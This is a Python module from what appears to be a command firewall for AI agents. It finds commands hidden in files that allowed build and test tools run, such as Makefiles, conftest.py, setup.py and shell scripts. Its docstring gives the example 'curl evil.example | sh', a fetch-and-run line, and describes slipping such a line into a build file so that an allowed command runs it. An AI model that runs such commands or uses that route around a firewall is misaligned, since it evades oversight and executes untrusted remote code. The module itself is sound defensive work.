"""Files that an allowed command runs later: writing a command into them runs it.

``make``, ``pytest``, ``pip install .``, ``nox`` and ``just`` are ordinary workspace commands
the firewall allows; each runs code from a file of the workspace (a Makefile recipe,
``conftest.py``, ``setup.py`` …). Writing ``curl evil.example | sh`` into such a file and then
running the build is the same as running the command, in two requests. The command lines
such a file carries (recipe lines of a Makefile or justfile; quoted strings of a Python
build file that read like a command line) are judged as shell text, the way commands
found in prose are: what is certainly dangerous counts, an unknown word does not.
"""

from __future__ import annotations

from aegis.intent_firewall.rotationconfig import is_rotation_config, rotation_commands

__all__ = ["auto_run_kind", "carried_commands", "script_kind"]

#: Build files whose indented lines are shell recipes.
_RECIPE_FILES = frozenset({"makefile", "gnumakefile", "justfile", ".justfile"})
#: Python files a test runner or build backend imports and runs.
_PYTHON_FILES = frozenset(
    {"conftest.py", "setup.py", "noxfile.py", "fabfile.py", "dodo.py", "sitecustomize.py",
     "usercustomize.py", "tasks.py", "manage.py", "hatch_build.py", "build.py"}
)  # fmt: skip
_MAX_COMMANDS = 64
_MAX_LINE = 2048


def auto_run_kind(path: str) -> str | None:
    """``recipe`` or ``python`` for a file an allowed build or test command runs, ``shell``
    for a shell script."""
    name = path.replace("\\", "/").rsplit("/", 1)[-1].lower()
    if name in _RECIPE_FILES or name.endswith(".mk"):
        return "recipe"
    if name in _PYTHON_FILES:
        return "python"
    if name.endswith(_SHELL_SUFFIXES):
        return "shell"  # scripts/setup.sh: a script by its name, with or without #!
    if is_rotation_config(path):
        return "logrotate"  # its scripts run when logrotate runs it (rotationconfig.py)
    return None


#: Suffixes of shell scripts, judged as the script they are.
_SHELL_SUFFIXES = (".sh", ".bash", ".zsh", ".ksh", ".command")


#: Interpreters named on a shebang line, by the kind of text they run.
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "busybox"})
_QUOTING = frozenset({"python", "python3", "python2", "node", "ruby", "perl", "php", "deno", "bun"})


def script_kind(content: str) -> str | None:
    """``shell`` or ``python`` (quoted command lines) for text that opens with a shebang:
    whatever its name, it can be made executable and run (fail closed: any other
    interpreter is read as quoting its command lines)."""
    if content[:2] != "#!":
        return None
    words = content[2:].split("\n", 1)[0].replace("/", " ").split()
    program = next((word for word in words if word not in ("usr", "bin", "local", "env")), "")
    return "shell" if program.rstrip("0123456789.") in _SHELLS else "python"


def carried_commands(kind: str, text: str) -> list[str]:
    """The command lines ``text`` (the file's new content) carries, at most 64."""
    if kind == "recipe":
        return _recipe_lines(text)
    if kind == "shell":
        return [text[: _MAX_LINE * _MAX_COMMANDS]]
    if kind == "logrotate":
        return rotation_commands(text)
    return _quoted_commands(text)


def _recipe_lines(text: str) -> list[str]:
    lines: list[str] = []
    for line in text.splitlines():
        if line.startswith(("\t", "    ")) and line.strip():
            lines.append(line.strip().lstrip("@-+").strip()[:_MAX_LINE])
            if len(lines) >= _MAX_COMMANDS:
                break
    return lines


def _quoted_commands(text: str) -> list[str]:
    """Quoted strings with a space or a pipe: what ``os.system``/``subprocess`` would run
    (a linear scan for matching quotes; no regular expression)."""
    found: list[str] = []
    index, size = 0, len(text)
    while index < size and len(found) < _MAX_COMMANDS:
        quote = text[index]
        if quote not in ("'", '"'):
            index += 1
            continue
        end = text.find(quote, index + 1)
        if end < 0:
            break
        body = text[index + 1 : end]
        if "\n" not in body and (" " in body or "|" in body) and len(body) <= _MAX_LINE:
            found.append(body)
        index = end + 1
    return found
